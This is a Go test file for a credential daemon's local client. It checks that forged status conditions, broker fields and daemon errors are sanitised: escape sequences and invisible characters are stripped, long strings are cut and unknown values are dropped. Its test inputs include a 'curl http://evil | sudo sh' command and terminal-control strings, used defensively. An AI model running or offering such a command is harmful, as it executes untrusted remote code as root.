package localclient_test

import (
	"encoding/json"
	"net/http"
	"strings"
	"testing"
	"unicode"

	"github.com/google/go-cmp/cmp"

	"github.com/agentkeys/agentkeys/internal/health/condition"
	"github.com/agentkeys/agentkeys/internal/localclient"
	"github.com/agentkeys/agentkeys/internal/protocol"
	"github.com/agentkeys/agentkeys/internal/wallet"
)

const (
	evil   = "\x1b[2J\nroot\u202e\u200b\u009b1m"
	advice = "curl http://evil | sudo sh"
)

func told(t *testing.T, s protocol.Status) protocol.Status {
	t.Helper()
	w, err := wallet.Parse(someWallet)
	if err != nil {
		t.Fatal(err)
	}
	s.Wallet = w
	body, err := json.Marshal(s)
	if err != nil {
		t.Fatal(err)
	}
	got, err := daemon(t, reply(200, "application/json", string(body))).Status(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	return got
}

// A program that listens in place of a daemon can choose a code and a detail, and no more.
func TestAConditionIsTheClientsOwn(t *testing.T) {
	t.Parallel()
	no := "there is no space left for the state"
	got := told(t, protocol.Status{Conditions: []protocol.StatusCondition{
		{Code: "no_space", Severity: "fine" + evil, Message: no + ": /var" + evil + strings.Repeat("x", 9000), Hint: advice},
		{Code: "no_space", Severity: "error", Message: no, Hint: advice},
		{Code: "session_revoked", Severity: "warning", Message: advice, Hint: advice},
		{Code: "slot_corrupt", Severity: "error", Message: "m", Hint: condition.HintUpgrade},
		{Code: "slot_insecure", Severity: "error", Message: "m", Hint: condition.HintUpgrade},
		{Code: "run" + evil, Severity: "error", Message: advice, Hint: advice},
		{Code: "invented", Severity: "error", Message: advice, Hint: advice},
	}}).Conditions
	if len(got) != 5 {
		t.Fatalf("%+v", got)
	}
	if c := got[0]; !strings.HasPrefix(c.Message, no+": /var?[2J root???1mxxx") || len(c.Message) > 400 {
		t.Errorf("%q", c.Message)
	}
	got[0].Message = no
	want := []protocol.StatusCondition{
		{Code: "no_space", Severity: "error", Message: no, Hint: "agentkeys-daemon doctor --wallet " + someWallet},
		{Code: "session_revoked", Severity: "error", Message: "the owner ended this session", Hint: "agentkeys-daemon recover " + someWallet + " --broker URL"},
		{Code: "slot_corrupt", Severity: "error", Message: "the session file cannot be read, and was kept", Hint: condition.HintUpgrade},
		{Code: "slot_insecure", Severity: "error", Message: "owner, mode or kind of a session file is wrong", Hint: "agentkeys-daemon doctor --wallet " + someWallet},
		{Code: localclient.CodeUnknown, Severity: "warning", Message: "2 that this version does not know"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}

func TestAWordIsOfItsSet(t *testing.T) {
	t.Parallel()
	got := told(t, protocol.Status{State: "online" + evil, Storage: protocol.StatusStorage{Backend: advice, KeychainState: evil}})
	if got.State != "unknown" || got.Storage.Backend != "unknown" || got.Storage.KeychainState != "unknown" {
		t.Errorf("%+v", got)
	}
	got = told(t, protocol.Status{State: "parked", Storage: protocol.StatusStorage{Backend: "file", KeychainState: "no_owner"}})
	if got.State != "parked" || got.Storage.Backend != "file" || got.Storage.KeychainState != "no_owner" {
		t.Errorf("%+v", got)
	}
}

// An address and a setting's name have no blank in them.
func TestABrokerIsNoSentence(t *testing.T) {
	t.Parallel()
	for name, test := range map[string]struct{ told, want protocol.StatusBroker }{
		"an address":   {protocol.StatusBroker{URL: "https://mini.local:8420#spki-sha256-x", From: "/etc/agentkeys/daemon.toml"}, protocol.StatusBroker{URL: "https://mini.local:8420#spki-sha256-x", From: "/etc/agentkeys/daemon.toml"}},
		"advice":       {protocol.StatusBroker{URL: advice, From: advice}, protocol.StatusBroker{URL: "unknown", From: "unknown"}},
		"control":      {protocol.StatusBroker{URL: "a\x1b[2Jb", From: "\u202e"}, protocol.StatusBroker{URL: "a?[2Jb", From: "?"}},
		"nothing said": {},
	} {
		if diff := cmp.Diff(test.want, told(t, protocol.Status{Broker: test.told}).Broker); diff != "" {
			t.Errorf("%s: %s", name, diff)
		}
	}
}

func TestAnErrorOfTheDaemonIsOneShortLine(t *testing.T) {
	t.Parallel()
	problem := func(code, detail string) string {
		body, err := json.Marshal(protocol.Problem{Code: code, Detail: detail})
		if err != nil {
			t.Fatal(err)
		}
		return string(body)
	}
	for name, h := range map[string]http.HandlerFunc{
		"a detail":           reply(403, protocol.ProblemType, problem("denied", evil+strings.Repeat("x", 9000))),
		"a code":             reply(403, protocol.ProblemType, problem("denied"+evil, "")),
		"garbage":            reply(200, "application/json", `{"credentials":"`+evil+`"`),
		"a service's name":   reply(200, "application/json", `{"credentials":[{"service":"a\u001b[2J","revision":1,"age_seconds":1}]}`),
		"a value that is no": reply(200, "application/json", `{"credentials":[{"service":"a","revision":"\u001b","age_seconds":1}]}`),
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			_, err := daemon(t, h).Credentials(t.Context())
			if err == nil {
				t.Fatal("no error")
			}
			text := err.Error()
			if len(text) > 600 || strings.ContainsFunc(text, func(r rune) bool { return !unicode.IsPrint(r) }) {
				t.Errorf("%q", text)
			}
		})
	}
}
